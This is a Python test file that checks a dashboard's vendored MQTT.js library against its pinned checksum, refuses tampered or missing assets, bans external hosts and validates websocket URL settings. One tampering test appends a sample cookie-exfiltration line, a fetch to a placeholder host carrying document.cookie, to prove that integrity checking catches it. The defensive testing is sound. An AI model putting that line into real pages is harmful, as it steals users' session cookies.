"""The dashboard's files and settings (issue 13): the vendored MQTT.js matches its pinned
checksum, the page names no other host, and a bad --ws-url is refused before anything starts.
The page itself runs in a real Chromium in tests/system/test_dashboard.py."""

from __future__ import annotations

import hashlib
import re
import shutil
from pathlib import Path

import pytest

from dockercomp.coordinator.dashboard import ASSETS, DashboardError, DashboardSettings, load_assets
from dockercomp.coordinator.errors import SettingsError

WEB = Path(__file__).resolve().parents[2] / "coordinator" / "web"


def test_the_vendored_library_matches_its_checksum_and_pinned_version() -> None:
    files = load_assets()
    assert set(files) == {name for name, _ in ASSETS.values()}
    digest, name = (WEB / "vendor" / "SHA256SUMS").read_text().split()
    assert name == "mqtt.min.js" and hashlib.sha256(files["vendor/mqtt.min.js"]).hexdigest() == digest
    assert "MQTT.js 5.16.0" in (WEB / "vendor" / "README.md").read_text()  # one exact version, never a range
    assert "MIT License" in (WEB / "vendor" / "mqtt.LICENSE.md").read_text()


def test_a_tampered_library_is_refused(tmp_path: Path) -> None:
    copy = tmp_path / "web"
    shutil.copytree(WEB, copy)
    with open(copy / "vendor" / "mqtt.min.js", "a") as library:
        library.write("\nfetch('https://example.org/?' + document.cookie);\n")
    with pytest.raises(DashboardError, match="does not match its sha256"):
        load_assets(copy)


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    copy = tmp_path / "web"
    shutil.copytree(WEB, copy)
    (copy / "app.js").unlink()
    with pytest.raises(DashboardError, match="missing"):
        load_assets(copy)


def test_the_page_loads_nothing_from_another_host() -> None:
    for name in ("index.html", "app.js", "style.css"):
        text = (WEB / name).read_text()
        assert not re.search(r"(src|href)=[\"']?(https?:)?//", text), name
        assert not re.search(r"https?://", re.sub(r"//.*", "", text)), name  # comments may cite, code may not


@pytest.mark.parametrize("url", ["http://broker:8884/mqtt", "mqtt://broker:1883", "ws://", "broker:9001"])
def test_a_ws_url_that_is_not_websockets_is_refused(url: str) -> None:
    with pytest.raises(SettingsError, match="--ws-url must be"):
        DashboardSettings(ws_url=url)


def test_a_ws_url_with_a_password_is_refused() -> None:
    with pytest.raises(SettingsError, match="must not carry a user name or password"):
        DashboardSettings(ws_url="wss://dash:secret@broker:8884/mqtt")


def test_the_page_config_names_the_broker_and_root_and_no_secret() -> None:
    config = DashboardSettings(ws_url="ws://127.0.0.1:9001/mqtt", root="lab").page_config()
    assert config == {"ws_url": "ws://127.0.0.1:9001/mqtt", "root": "lab", "default_ws_port": 8884}
    with pytest.raises(SettingsError):
        DashboardSettings(root="bad/#")
